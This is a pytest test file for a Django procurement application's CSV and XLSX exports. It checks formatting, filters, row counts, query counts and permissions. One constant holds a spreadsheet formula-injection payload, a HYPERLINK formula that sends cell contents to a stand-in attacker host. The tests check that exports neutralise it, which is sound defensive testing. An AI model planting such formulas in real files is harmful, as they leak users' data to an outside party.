"""The shared export: the CSV dialect Swedish Excel reads, the XLSX layout, formula injection, unknown formats.

Shown through real list pages (the procurement list, the criteria library): `?export=` on the page's own address.
"""

import datetime
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from insteg.lib import exports
from insteg.lib.tests.export_files import column, csv_rows, xlsx_rows
from insteg.procurement.models import Criterion
from insteg.procurement.tests.factories import CriterionFactory, ProcurementFactory

LIST = reverse("procurement:list")
INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Klicka här")'


@pytest.fixture
def signed_in(client, procurement_officer):
    client.force_login(procurement_officer)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


def test_the_csv_is_what_swedish_excel_opens_with_iso_dates_and_a_dated_file_name(signed_in, municipality):
    ProcurementFactory(
        organisation=municipality, reference="KS 2026/0100", title="Lokalvård Frösön", status="published",
        tender_deadline=datetime.date(2026, 4, 10),
    )  # fmt: skip
    response = signed_in.get(LIST, {"export": "csv"})
    rows = csv_rows(response)
    assert rows[0][:4] == ["Reference", "Title", "Organisation", "Contract type"]
    assert rows[1][:3] == ["KS 2026/0100", "Lokalvård Frösön", "Östersunds kommun"]
    assert column(rows, "Tender deadline") == ["2026-04-10"]
    assert column(rows, "Estimated value (SEK)") == ["60000000"]
    assert response.content.decode("utf-8-sig").count("\r\n") == 2  # Excel's line endings
    today = datetime.date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="procurements-{today}.csv"'
    assert "no-store" in response["Cache-Control"]


def test_the_xlsx_has_a_bold_frozen_header_real_dates_and_column_widths(signed_in, municipality):
    ProcurementFactory(organisation=municipality, title="Lokalvård Frösön", tender_deadline=datetime.date(2026, 4, 10))
    response = signed_in.get(LIST, {"export": "xlsx"})
    rows = xlsx_rows(response)
    assert rows[0][0] == "Reference"
    assert column(rows, "Title") == ["Lokalvård Frösön"]
    assert column(rows, "Tender deadline") == [datetime.datetime(2026, 4, 10)]
    assert column(rows, "Estimated value (SEK)") == [60_000_000]  # a number Excel can sum
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Procurements"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b is True
    assert sheet.column_dimensions["B"].width == 40
    assert sheet["I2"].number_format == "yyyy-mm-dd"


def test_a_title_written_as_a_formula_stays_text_in_both_formats(signed_in, municipality):
    ProcurementFactory(organisation=municipality, title=INJECTION)
    csv_title = column(csv_rows(signed_in.get(LIST, {"export": "csv"})), "Title")
    assert csv_title == ["'" + INJECTION]
    response = signed_in.get(LIST, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["B2"].value == "'" + INJECTION
    assert sheet["B2"].data_type == "s"  # a string, not a formula


@pytest.mark.parametrize("value", ["=1+1", "+46 70 123", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value):
    assert exports.safe_cell(value) == "'" + value


def test_ordinary_text_and_numbers_are_left_alone():
    assert exports.safe_cell("Storsjöbygg AB") == "Storsjöbygg AB"
    assert exports.safe_cell("") == ""
    rows = list(exports._values([exports.Column("n", lambda row: row)], [-2, 1.5]))
    assert rows == [[-2], [1.5]]


def test_the_export_honours_the_page_filters(signed_in, municipality):
    ProcurementFactory(organisation=municipality, title="Lokalvård Frösön", status="published")
    ProcurementFactory(organisation=municipality, title="Snöröjning Brunflo", status="draft")
    rows = csv_rows(signed_in.get(LIST, {"export": "csv", "status": "published"}))
    assert column(rows, "Title") == ["Lokalvård Frösön"]
    rows = csv_rows(signed_in.get(LIST, {"export": "csv", "q": "snö"}))
    assert column(rows, "Title") == ["Snöröjning Brunflo"]


def test_an_unknown_format_gives_the_ordinary_page(signed_in, municipality):
    ProcurementFactory(organisation=municipality, title="Lokalvård Frösön")
    response = signed_in.get(LIST, {"export": "pdf"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Lokalvård Frösön" in response.content.decode()


def test_the_page_links_to_both_files_keeping_the_filters(signed_in, municipality):
    html = signed_in.get(LIST, {"status": "published", "q": "städ"}).content.decode()
    assert "?status=published&amp;q=st%C3%A4d&amp;export=csv" in html
    assert "?status=published&amp;q=st%C3%A4d&amp;export=xlsx" in html
    assert "Download the list as </span>CSV" in html


def test_the_export_has_every_row_not_only_the_first_page(signed_in):
    Criterion.objects.all().delete()
    CriterionFactory.create_batch(55)  # the page shows 50
    page = signed_in.get(reverse("procurement:criterion_list"))
    assert len(page.context["rows"]) == 50
    rows = xlsx_rows(signed_in.get(reverse("procurement:criterion_list"), {"export": "xlsx"}))
    assert len(rows) == 56
    assert "In use" not in rows[0]  # an officer's page has no "in use" column, nor has the file


def test_an_administrator_exports_the_in_use_column_as_on_the_page(client, administrator):
    Criterion.objects.all().delete()
    CriterionFactory(is_active=False, title_en="Retired criterion")
    client.force_login(administrator)
    rows = csv_rows(
        client.get(
            reverse("procurement:criterion_list"),
            {"export": "csv", "include_inactive": "on"},
            HTTP_ACCEPT_LANGUAGE="en",
        )
    )
    assert column(rows, "In use") == ["No"]


@pytest.mark.parametrize("count", [2, 12])
def test_the_export_takes_the_same_number_of_queries_however_many_rows(
    signed_in, municipality, django_assert_num_queries, count
):
    ProcurementFactory.create_batch(count, organisation=municipality)
    signed_in.get(LIST)  # warm the session and the user's memberships
    with django_assert_num_queries(4):
        response = signed_in.get(LIST, {"export": "csv"})
    assert len(csv_rows(response)) == count + 1


def test_someone_who_may_not_see_the_list_may_not_export_it(client, funder, supplier):
    client.force_login(supplier)
    assert client.get(reverse("privacy:audit_trail"), {"export": "csv"}).status_code == 403
    assert client.get(reverse("accounts:organisation_list"), {"export": "xlsx"}).status_code == 403


def test_the_criteria_export_takes_the_same_number_of_queries_however_many(signed_in, django_assert_num_queries):
    Criterion.objects.all().delete()
    CriterionFactory.create_batch(2)
    signed_in.get(reverse("procurement:criterion_list"))  # warm the session
    with CaptureQueriesContext(connection) as few:
        signed_in.get(reverse("procurement:criterion_list"), {"export": "xlsx"})
    CriterionFactory.create_batch(30)
    with django_assert_num_queries(len(few.captured_queries)):
        response = signed_in.get(reverse("procurement:criterion_list"), {"export": "xlsx"})
    assert len(xlsx_rows(response)) == 33


def test_the_audit_trail_export_takes_the_same_number_of_queries_however_many(
    client, administrator, municipality, django_assert_num_queries
):
    from insteg.privacy import audit

    client.force_login(administrator)
    audit.record("procurement.published", actor=administrator, organisation=municipality)
    client.get(reverse("privacy:audit_trail"))  # warm the session and the content types
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("privacy:audit_trail"), {"export": "csv"})
    for _ in range(20):
        audit.record("procurement.published", actor=administrator, organisation=municipality)
    with django_assert_num_queries(len(few.captured_queries)):
        response = client.get(reverse("privacy:audit_trail"), {"export": "csv"})
    assert len(csv_rows(response)) > 21
